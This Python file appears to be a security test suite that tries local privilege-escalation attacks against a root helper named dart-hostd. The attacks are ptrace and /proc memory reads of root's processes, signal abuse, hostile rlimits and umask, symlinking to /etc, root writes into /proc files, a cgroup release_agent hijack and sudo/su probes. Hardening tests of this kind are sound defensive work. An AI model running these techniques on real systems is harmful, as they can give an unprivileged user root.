"""Of the escalation book: root's processes, and what they take over from who starts them.

Each function with the mark `@attempt` is one; see `escalation_attempts`.
"""

import ctypes
import os
import resource
import signal
import stat
import subprocess
import threading
import time
from contextlib import suppress
from pathlib import Path

from escalation_tools import Attacker, attempt

# Processes of root's.


@attempt
def helper_is_traced(attacker: Attacker) -> None:
    """Trace the helper and the starter, read their memory, files and directories."""
    farm = attacker.farm()
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {farm.helper_pid(), farm.process.pid}:
        print(pid, libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
        for name in ("mem", "environ", "maps"):
            try:
                Path(f"/proc/{pid}/{name}").read_bytes()
                print("read", name)
            except OSError as error:
                print(error)
        for name in ("root", "cwd", "fd"):
            try:
                print(os.listdir(f"/proc/{pid}/{name}"))
            except OSError as error:
                print(error)
        with suppress(AttributeError, OSError):
            descriptor = os.pidfd_open(pid)
            print([libc.syscall(438, descriptor, number, 0) for number in range(10)])


@attempt
def helper_is_signalled(attacker: Attacker) -> None:
    """End root's processes, and stop the starter between the helper's death and the next one."""
    farm = attacker.farm()
    pid = farm.helper_pid()
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV, signal.SIGUSR1):
        for target in (pid, farm.process.pid, -farm.process.pid):
            try:
                os.kill(target, number)
                print("allowed", number, target)
            except OSError as error:
                print(error)
    farm.process.terminate()
    time.sleep(0.3)


@attempt
def limits_of_the_caller(attacker: Attacker) -> None:
    """Start it with limits that make its writes end early, and with core files allowed."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        resource.setrlimit(resource.RLIMIT_CPU, (2, 2))

    farm = attacker.farm(preexec_fn=limit, cwd=attacker.home)
    if farm.reply.get("socket"):
        farm.desktop()

    def few_files() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (8, 8))

    attacker.farm(preexec_fn=few_files)


@attempt
def mask_and_closed_files(attacker: Attacker) -> None:
    """Start it with every permission in the mask and without standard output, so that root's files take that number."""

    def close() -> None:
        os.umask(0)
        for descriptor in (1, 2):
            os.close(descriptor)

    farm = attacker.farm(preexec_fn=close, stdout=None, stderr=None)
    if farm.reply.get("socket"):
        farm.desktop()
    for path in (Path("/run/dart-hostd"), farm.socket.parent, farm.socket):
        mode = stat.S_IMODE(path.stat().st_mode)
        print(path, oct(mode))
        if mode & 0o022:
            print("open to all:", path)
            (farm.socket.parent / attacker.name).symlink_to("/etc")


@attempt
def output_into_the_kernel(attacker: Attacker) -> None:
    """Give it files of the kernel's as standard output and error, for root to write to."""
    pid = os.fork()
    if pid == 0:
        ctypes.CDLL(None).unshare(0x10000000)
        time.sleep(10)
        os._exit(0)
    time.sleep(0.3)
    try:
        for name in ("uid_map", "gid_map", "oom_score_adj", "attr/current", "mem"):
            with suppress(OSError), open(f"/proc/{pid}/{name}", "wb", buffering=0) as file:
                attacker.farm(stdout=file, stderr=file)
        print(Path(f"/proc/{pid}/uid_map").read_text())
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)


@attempt
def signals_ignored_and_blocked(attacker: Attacker) -> None:
    """Start it with every signal ignored and blocked, a timer set, and a system-call filter of his own."""

    def hostile() -> None:
        for number in signal.valid_signals():
            with suppress(OSError, ValueError):
                signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        signal.setitimer(signal.ITIMER_REAL, 0.5)

    farm = attacker.farm(preexec_fn=hostile)
    if farm.reply.get("socket"):
        farm.desktop()
        time.sleep(0.5)

    def filtered() -> None:
        ctypes.CDLL(None).prctl(38, 1, 0, 0, 0)

    attacker.farm(preexec_fn=filtered)


@attempt
def control_groups_of_the_helper(attacker: Attacker) -> None:
    """Write to the control groups of desktops, whose release agent is a program that root runs."""
    farm = attacker.farm()
    farm.desktop()
    evil = attacker.evil(attacker.home / "agent")
    root = Path("/sys/fs/cgroup")
    for place in (
        root,
        *root.glob("*"),
        *root.glob(f"*/{farm.socket.parent.name}/*"),
        *root.glob(f"{farm.socket.parent.name}/*"),
    ):
        for name, text in (
            ("release_agent", str(evil)),
            ("notify_on_release", "1"),
            ("cgroup.procs", str(os.getpid())),
            ("memory.max", "1"),
        ):
            if (place / name).exists():
                try:
                    (place / name).write_text(text)
                    print("wrote", place / name)
                except OSError:
                    continue


@attempt
def server_gives_up_and_takes_back(attacker: Attacker) -> None:
    """Run sudo, a setuid program and a program with capabilities from a process that has given up new privileges."""

    def give_up() -> None:
        ctypes.CDLL(None).prctl(38, 1, 0, 0, 0)

    for words in (["sudo", "-n", *attacker.starter], ["sudo", "-n", "-l"], ["su", "-c", "id"], ["passwd", "-S"]):
        print(
            subprocess.run(
                words,
                preexec_fn=give_up,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                text=True,
                check=False,
                timeout=20,
            )
        )


@attempt
def many_helpers_at_once(attacker: Attacker) -> None:
    """Start many helpers for one runtime directory and for others at once, to find one that works without its lock."""
    runtime = attacker.home / "r"
    threads = [threading.Thread(target=attacker.farm, kwargs={"runtime": runtime}) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(bool(farm.reply.get("socket")) for farm in attacker.farms), "of", len(attacker.farms))
    for farm in attacker.farms:
        if farm.reply.get("socket"):
            farm.desktop()
